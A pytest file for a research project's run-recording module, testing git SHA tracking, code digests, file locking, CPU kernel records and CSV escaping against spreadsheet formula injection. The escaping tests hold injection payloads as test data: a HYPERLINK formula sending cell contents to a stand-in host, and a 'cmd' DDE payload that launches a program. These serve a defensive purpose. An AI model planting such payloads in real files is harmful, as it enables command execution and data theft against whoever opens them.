"""Tests of acgate.runs: the code version and digest a run records, and the run folder's lock."""

import fcntl
import os
import shutil
import subprocess
import threading

import pytest

from acgate import runs


def test_the_git_sha_says_when_code_notebooks_or_params_differ_from_the_commit(tmp_path, monkeypatch):
    # git as on a fresh machine: no user or system settings (untracked files hidden, signed commits, hooks), no
    # repository of a caller's (a hook's GIT_DIR), none above the temporary folders
    for name in ("GIT_DIR", "GIT_WORK_TREE", "GIT_INDEX_FILE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path.parent))
    repository = tmp_path / "checkout"

    def git(*args) -> str:
        return subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", *args], cwd=repository,
                              check=True, capture_output=True, text=True).stdout.strip()

    sources = ("lib/acgate/x.py", "notebooks/n.py", "params/p.yaml", "pyproject.toml")
    for name in (*sources, "tables/t.csv"):
        (repository / name).parent.mkdir(parents=True, exist_ok=True)
        (repository / name).write_text("a\n")
    package = repository / "lib" / "acgate" / "x.py"  # git_sha looks from the folder of the file it is given
    assert runs.git_sha(package) == "unknown"  # not a repository yet
    git("init", "-q")
    assert runs.git_sha(package) == "unknown"  # no commit yet
    git("add", ".")
    git("commit", "-q", "-m", "first")
    assert runs.git_sha(package) == git("rev-parse", "HEAD")
    for output in ("tables/t.csv", "tables/new.csv"):  # a regenerated output, a new one: neither counts
        (repository / output).write_text("b\n")
        assert runs.git_sha(package) == git("rev-parse", "HEAD")
    for change in (*sources, "notebooks/new.py"):  # every kind of source changed, and a new one
        (repository / change).write_text("b\n")
        assert runs.git_sha(package) == git("rev-parse", "HEAD") + "+dirty", change
        git("add", ".")
        git("commit", "-q", "-m", change)
        assert runs.git_sha(package) == git("rev-parse", "HEAD")


def test_every_run_records_a_code_digest_that_changes_with_every_edit(tmp_path):
    """git_sha says '<sha>+dirty' before and after an edit; the code digest tells the two apart."""
    package = tmp_path / "lib" / "acgate"
    package.mkdir(parents=True)
    (tmp_path / "notebooks").mkdir()
    for name in ("lib/acgate/x.py", "lib/acgate/numbers.yaml", "notebooks/n.py"):
        (tmp_path / name).write_text("a\n")
    seen = set()
    for edit in (None, "lib/acgate/x.py", "lib/acgate/numbers.yaml", "notebooks/n.py", "lib/acgate/new.py"):
        if edit:
            (tmp_path / edit).write_text("b\n")
        runs.code_digest.cache_clear()
        seen.add(runs.code_digest(package / "x.py"))
        assert len(seen) == (1 if edit is None else len(seen)), edit
    assert len(seen) == 5
    runs.code_digest.cache_clear()
    assert runs.manifest({}, 0, "cpu")["code_digest"] == runs.code_digest()


def test_a_reader_checking_the_lock_does_not_stop_a_writer(tmp_path):
    """A reader holds the lock for the instant of its check; a writer that meets it waits instead of failing."""
    out = tmp_path / "seed00" / "acgate"
    with runs.writing(out):
        pass
    with open(runs.lock_file(out)) as lock:
        fcntl.flock(lock, fcntl.LOCK_SH)
        threading.Timer(0.3, fcntl.flock, (lock, fcntl.LOCK_UN)).start()
        with runs.writing(out):
            written = True
    assert written and runs.writer(out) is None


def test_the_machine_record_names_what_decides_the_float32_kernels(monkeypatch):
    """The reference k* are keyed on the kernels, not on the CPU's name: a variable that lowers the instruction set
    oneDNN dispatch to makes another key."""
    monkeypatch.delenv("ONEDNN_MAX_CPU_ISA", raising=False)
    native = runs.machine()["kernels"]
    assert native["torch_dispatch"] in {"DEFAULT", "VSX", "Z VECTOR", "NO AVX", "AVX2", "AVX512", "SVE256"}
    monkeypatch.setenv("ONEDNN_MAX_CPU_ISA", "AVX2")
    lowered = runs.cpu_kernels()
    assert lowered["variables"] == {**native["variables"], "ONEDNN_MAX_CPU_ISA": "AVX2"} and lowered != native


def test_a_csv_a_spreadsheet_may_open_holds_no_formula_and_reads_back_as_written(tmp_path):
    """Ids and column names that start like a formula (OWASP: =, +, -, @, tab, carriage return) get a leading ' in
    every CSV the project writes, so a spreadsheet shows them as text; the project reads them back unchanged."""
    import csv

    import pandas as pd

    from acgate.data.sources import read_csv_ids

    ids = ['=HYPERLINK("http://x?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-5", "\tTAB", "plain",
           "'=already quoted", "NA"]
    frame = pd.DataFrame({"entity": ids, "kstar": [-1.5, 2.0, 3.0, -4.0, 5.0, 6.0, 7.0, 8.0],
                          "=SUM(A1)": ["-x", "y", "@z", "w", "v", "u", "t", "s"]})
    assert runs.spreadsheet_safe("\rCR") == "'\rCR"  # a carriage return too (pandas cannot read one back in an id)
    runs.write_csv(tmp_path / "lags.csv", frame, index=False)
    with open(tmp_path / "lags.csv", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert not [cell for cell in cells if cell.startswith(runs.FORMULA_STARTS) and not _number(cell)]
    back = read_csv_ids(tmp_path / "lags.csv", ["entity"], written=True)
    assert list(back.columns) == list(frame.columns)
    assert back.entity.tolist() == ids and back["=SUM(A1)"].tolist() == frame["=SUM(A1)"].tolist()
    assert back.kstar.tolist() == frame.kstar.tolist()  # numbers stay numbers, negative ones too


@pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice (Debian: libreoffice-calc-nogui)")
def test_a_spreadsheet_opens_the_projects_csv_ids_as_text_not_formulas(tmp_path):
    """A real spreadsheet reader (LibreOffice, headless, converting to xlsx, read back by openpyxl): the ids the
    project writes stay text; the same ids written by plain pandas become a formula (so the check can see one)."""
    import openpyxl
    import pandas as pd

    ids = ['=HYPERLINK("http://x?"&A1,"click")', "=1+1", "+cmd|' /C calc'!A0", "@SUM(1+1)", "plain"]
    frame = pd.DataFrame({"entity": ids, "kstar": [1.5, 2.0, 3.0, 4.0, 5.0]})
    runs.write_csv(tmp_path / "guarded.csv", frame, index=False)
    frame.to_csv(tmp_path / "plain.csv", index=False)
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to", "xlsx",
                    "--outdir", str(tmp_path), str(tmp_path / "guarded.csv"), str(tmp_path / "plain.csv")],
                   check=True, capture_output=True, timeout=300)
    kinds = {name: [cell.data_type for cell in openpyxl.load_workbook(tmp_path / f"{name}.xlsx").active["A"][1:]]
             for name in ("guarded", "plain")}
    assert kinds["guarded"] == ["s"] * len(ids), kinds  # text
    assert "f" in kinds["plain"], kinds  # a formula


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
